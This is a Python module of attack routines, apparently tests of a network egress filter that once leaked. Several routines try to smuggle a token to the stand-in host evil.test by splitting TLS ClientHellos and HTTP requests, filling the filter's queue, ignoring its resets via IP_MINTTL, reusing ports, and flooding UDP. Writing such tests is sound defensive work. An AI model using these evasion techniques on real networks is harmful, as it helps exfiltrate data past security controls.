# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks that once got out: first segments that are lost or sent again, ports that somebody else uses next.
In these, `targets` is a list of [address, port, token]."""
import resource
import socket
import struct
import time

from attempts import attempt, family, stay
from wire import client_hello

GARBAGE = b"GET /abcde"
SO_LINGER_RESET = struct.pack("ii", 1, 0)


def _connected(to, port, source=None):
    s = socket.socket(family(to))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.settimeout(3)
    if source:
        s.bind(("", source))
    s.connect((to, port))
    return s


def _many_files():
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def _two_segments(name, port, token, refused=False):
    """(beginning, rest) of a payload that is not allowed as a whole, while the rest alone would be. refused: the
    beginning alone is refused."""
    if port == 443:
        good = client_hello(name)
        if refused:
            return client_hello("evil.test", token), good
        inner = struct.pack("!HH", 65001, len(good)) + good
        whole = _with_extension(client_hello("evil.test", token), inner)
        return whole[:-len(good)], whole[-len(good):]
    good = b"GET /good HTTP/1.1\r\nHost: %s\r\n\r\n" % name.encode()
    return b"POST /%s HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\n\r\n" % (token, len(good)), good


def _with_extension(hello, ext):
    """A ClientHello in one record with one extension more, its last."""
    msg = hello[9:]
    at = 34 + 1 + msg[34]
    at += 2 + struct.unpack_from("!H", msg, at)[0]
    at += 1 + msg[at]
    exts = msg[at + 2:] + ext
    msg = msg[:at] + struct.pack("!H", len(exts)) + exts
    msg = b"\1" + struct.pack("!I", len(msg))[1:] + msg
    return b"\x16\3\1" + struct.pack("!H", len(msg)) + msg


def _answers(socks):
    out = []
    for s in socks:
        s.settimeout(0.05)
        out.append((attempt(lambda: s.recv(100))[0] or b"").split(b"\r\n")[0].decode("latin1"))
    return out


def lost_first(a):
    """The fence's queue is full of held packets when the first segment comes to it, and has room for the second."""
    _many_files()
    attempt(lambda: socket.getaddrinfo(a["name"], 80))
    groups = [[(_connected(to, port), _two_segments(a["name"], port, tok.encode())) for to, port, tok in a["targets"]]
              for _ in range(a["n"])]
    fill = [_connected(a["targets"][0][0], 80) for _ in range(840)]
    start = time.monotonic()
    for s in fill:
        for i in range(10):
            attempt(lambda: s.send(GARBAGE[i:i + 1], socket.MSG_EOR))
    filled = time.monotonic() - start
    plan = []
    for i, group in enumerate(groups):  # held for three seconds; the first are let go at 3.0
        for s, (evil, good) in group:
            plan += [(2.88 + 0.02 * i, s, evil), (2.98 + 0.02 * i, s, good)]
    for when, s, data in sorted(plan, key=lambda p: p[0]):
        time.sleep(max(0, start + when - time.monotonic()))  # by the plan
        attempt(lambda: s.send(data, socket.MSG_EOR))
    time.sleep(1)  # the last are let go
    return {"filled": filled, "answers": _answers(s for g in groups for s, _ in g)}


def no_reset(s, on):
    """The socket takes only packets that crossed no router; ours says 64."""
    level, option = (41, 73) if s.family == socket.AF_INET6 else (0, 21)  # IPV6_MINHOPCOUNT, IP_MINTTL
    return attempt(lambda: s.setsockopt(level, option, 255 if on else 0))[1]


def refused_again(a):
    """The reset is ignored, many others are refused, and then the second segment is sent before the first one
    again."""
    _many_files()
    attempt(lambda: socket.getaddrinfo(a["name"], 80))
    targets = [(_connected(to, port), _two_segments(a["name"], port, tok.encode(), refused=True))
               for to, port, tok in a["targets"] for _ in range(2)]
    fill = [_connected(a["targets"][0][0], 80) for _ in range(2300)]
    errors = []
    start = time.monotonic()
    for s, (evil, _) in targets:
        errors += [no_reset(s, True), attempt(lambda: s.send(evil))[1]]
    for s in fill:
        attempt(lambda: s.send(b"\1"))
    filled = time.monotonic() - start
    time.sleep(0.1)  # the resets have come and were dropped
    for s, (_, good) in targets:
        errors += [no_reset(s, False), attempt(lambda: s.send(good))[1]]
    time.sleep(1.6)  # TCP sends again what was refused
    return {"filled": filled, "errors": errors, "answers": _answers(s for s, _ in targets)}


def same_port_again(a):
    """One port, two connections: what is allowed, reset, then what is not."""
    errors = []
    attempt(lambda: socket.getaddrinfo(a["name"], 443))
    for to, port, tok in a["targets"]:
        for source in range(45000, 45005):
            for hello in (client_hello(a["name"]), client_hello("evil.test", tok.encode())):
                def go():
                    s = _connected(to, port, source)
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, SO_LINGER_RESET)
                    s.settimeout(0.5)
                    s.send(hello)
                    attempt(lambda: s.recv(5))
                    s.close()
                errors.append(attempt(go)[1])
                time.sleep(0.03)  # the reset is judged before the port is used again
    return {"errors": errors}


def all_of_loopback(a):
    """A broadcast within this machine; the sender's own socket gets a copy."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    errors = [attempt(lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))[1],
              attempt(lambda: s.bind((a["to"], a["port"])))[1]]
    for _ in range(3):
        errors.append(attempt(lambda: s.sendto(a["token"].encode(), (a["to"], a["port"])))[1])
        stay()
    return {"errors": errors}


def refused_flood(a):
    """Datagrams as fast as it goes, all of them refused."""
    s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
    s.setblocking(False)
    end, n = time.monotonic() + a["seconds"], 0
    while time.monotonic() < end:
        n += attempt(lambda: s.sendto(a["token"].encode(), (a["to"], a["port"])))[1] is None
    return {"sent": n}


def use_up(a):
    """From each port a datagram, or a SYN and an immediate close, to an outsider's port; then the program stays."""
    for to in a["to"]:
        for source in range(a["first"], a["first"] + a["n"]):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                s = socket.socket(family(to), kind)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.setblocking(False)
                attempt(lambda: s.bind((to, source)))
                attempt(lambda: s.connect((to, a["port"])))
                if kind == socket.SOCK_DGRAM:
                    attempt(lambda: s.send(b"x"))
                s.close()
    stay(0.3)
    print("READY", flush=True)
    time.sleep(60)  # it is ended


def hears_own(a):
    """A UDP listener that got a datagram of its own fence's from one port; says what it gets, and answers."""
    own = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
    own.bind((a["to"], a["port"]))
    if "from" in a:
        s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
        s.bind((a["to"], a["from"]))
        s.sendto(b"own", (a["to"], a["port"]))
        s.close()
    own.settimeout(20)
    print("READY", flush=True)
    while True:
        data, peer = own.recvfrom(100)
        print("GOT %s" % data.decode(), flush=True)
        if data != b"own":  # an answer would be refused, and the entry forgotten
            attempt(lambda: own.sendto(b"yes", peer))


def hears_own_tcp(a):
    """The same by TCP: the first connection is reset."""
    own = socket.create_server((a["to"], a["port"]), family=family(a["to"]))
    own.settimeout(20)
    s = _connected(a["to"], a["port"], a["from"])
    s.sendall(b"own")
    print("READY", flush=True)
    while True:
        c = own.accept()[0]
        c.settimeout(1)
        print("GOT %s" % (attempt(lambda: c.recv(100))[0] or b"").decode(), flush=True)
        attempt(lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, SO_LINGER_RESET))
        s.close()
        print("CLOSED", flush=True)


def request_in(s, host, path):
    return attempt(lambda: s.sendall(b"POST /%s HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n\r\n" % (
        path.encode(), host.encode())))[1]


def deaf_to_resets(a):
    """A request with another Host, whose reset the socket drops; TCP sends it again."""
    attempt(lambda: socket.getaddrinfo(a["name"], a["port"]))
    errors = []
    for to in a["to"]:
        s = _connected(to, a["port"])
        errors += [no_reset(s, True), request_in(s, "evil.test", a["token"])]
        time.sleep(0.12)  # the reset has come and was dropped
        errors.append(no_reset(s, False))
        errors.append(attempt(lambda: s.recv(100))[1])
    return {"errors": errors}


def behind_a_stream(a):
    """A request with another Host while the answer to the first one comes in: our reset is too old for the socket."""
    attempt(lambda: socket.getaddrinfo(a["name"], a["port"]))
    read = []
    for to in a["to"] * 4:
        s = _connected(to, a["port"])
        request_in(s, "%s:%d" % (a["name"], a["port"]), "big")
        n = len(attempt(lambda: s.recv(65536))[0] or b"")
        request_in(s, "evil.test", a["token"])
        end = time.monotonic() + 0.6
        while time.monotonic() < end:
            data = attempt(lambda: s.recv(65536))[0]
            if not data:
                break
            n += len(data)
        read.append(n)
        s.close()
    return {"read": read}


def late_answers(a):
    """Asks, is silent, and reads what the server says after a while."""
    socks = [_connected(to, a["port"]) for to in a["to"]]
    for s in socks:
        s.sendall(b"ask")
        s.settimeout(8)
    return {"answers": [(attempt(lambda: s.recv(100))[0] or b"").decode() for s in socks]}
